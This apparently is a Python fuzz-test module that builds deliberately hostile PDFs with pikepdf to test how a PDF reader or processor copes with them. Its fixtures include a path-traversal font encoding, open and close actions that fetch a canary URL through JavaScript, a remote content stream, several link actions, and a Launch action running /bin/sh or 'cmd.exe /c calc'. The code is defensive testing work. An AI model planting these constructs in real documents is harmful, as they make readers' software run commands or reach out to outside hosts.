"""PDFs that call to the outside, and odd but whole ones."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfbase.pdfmetrics import registerFont
from reportlab.pdfgen.canvas import Canvas

from tests.fuzz.hostile_text import CHINESE, HEBREW, JAPANESE
from tests.fuzz.pdf_documents import HELLO, blank, saved
from tests.fuzz.recipe import Kit


def map_by_path(document: pikepdf.Pdf, kit: Kit) -> None:
    """A map of characters that is named by a path: older readers opened it, and ran what was in it."""
    font = Dictionary(Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.X, Encoding=Name("/../../../../tmp/evil"))
    font.DescendantFonts = Array([Dictionary(Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name.X)])
    document.pages[0].Resources.Font = Dictionary(F1=font)


def calls_out(document: pikepdf.Pdf, kit: Kit) -> None:
    """Everything by which a PDF may ask a reader for something that lies elsewhere."""
    canary = kit.canary
    document.Root.OpenAction = Dictionary(S=Name.URI, URI=f"{canary}/open")
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=f"app.launchURL('{canary}/js')"))
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", Dictionary(S=Name.JavaScript, JS=f"this.submitForm('{canary}')")]))
    )
    web = Dictionary(FS=Name.URL, F=f"{canary}/stream")
    page = document.pages[0]
    outside = pikepdf.Stream(document, b"")
    outside.stream_dict.F, outside.stream_dict.FFilter = web, Name.FlateDecode
    page.Contents = Array([document.make_stream(HELLO), document.make_indirect(outside)])
    launch = Dictionary(S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc"))
    actions = [
        launch, Dictionary(S=Name.GoToR, F=web, D="a"), Dictionary(S=Name.SubmitForm, F=web),
        Dictionary(S=Name.ImportData, F=web),
    ]  # fmt: skip
    page.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action) for action in actions]
    )


def sizes(document: pikepdf.Pdf, kit: Kit) -> None:
    document.pages[0].MediaBox = Array([0, 0, 1_000_000_000, 1_000_000_000])
    document.pages[0].obj.UserUnit = 75_000
    document.pages[1].MediaBox = Array([100, 100, -100, 100])
    document.pages[1].Rotate = 45


def scripts(kit: Kit) -> bytes:
    """Chinese and Japanese by fonts that the reader has to have, Hebrew in the order of the eye and of the ear."""
    for font in ("STSong-Light", "HeiseiMin-W3"):
        registerFont(UnicodeCIDFont(font))
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    for font, text in (("STSong-Light", CHINESE), ("HeiseiMin-W3", JAPANESE)):
        canvas.setFont(font, 12)
        for line in range(10):
            canvas.drawString(60, 780 - 20 * line, text)
        canvas.showPage()
    canvas.save()
    document = pikepdf.open(io.BytesIO(out.getvalue()))
    page = document.add_blank_page(page_size=(595, 842))
    unicode = "".join(f"<{n:04x}> <{ord(c):04x}>\n" for n, c in enumerate(HEBREW, 1))
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.Hebrew, Encoding=Name("/Identity-H"),
        DescendantFonts=Array([Dictionary(
            Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name.Hebrew, DW=600,
            CIDSystemInfo=Dictionary(Registry="Adobe", Ordering="Identity", Supplement=0),
        )]),
        ToUnicode=document.make_stream(
            f"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0000> <ffff> "
            f"endcodespacerange {len(HEBREW)} beginbfchar\n{unicode}endbfchar endcmap end end".encode()
        ),
    )  # fmt: skip
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    heard = "".join(f"{n:04x}" for n in range(1, len(HEBREW) + 1))
    seen = "".join(f"{n:04x}" for n in range(len(HEBREW), 0, -1))
    page.Contents = document.make_stream(f"BT /F1 8 Tf 40 700 Td <{heard}> Tj 0 -30 Td <{seen}> Tj ET".encode())
    return saved(document)


def locked(kit: Kit) -> bytes:
    out = io.BytesIO()
    blank().save(out, encryption=pikepdf.Encryption(user="x", owner="y"))
    return out.getvalue()
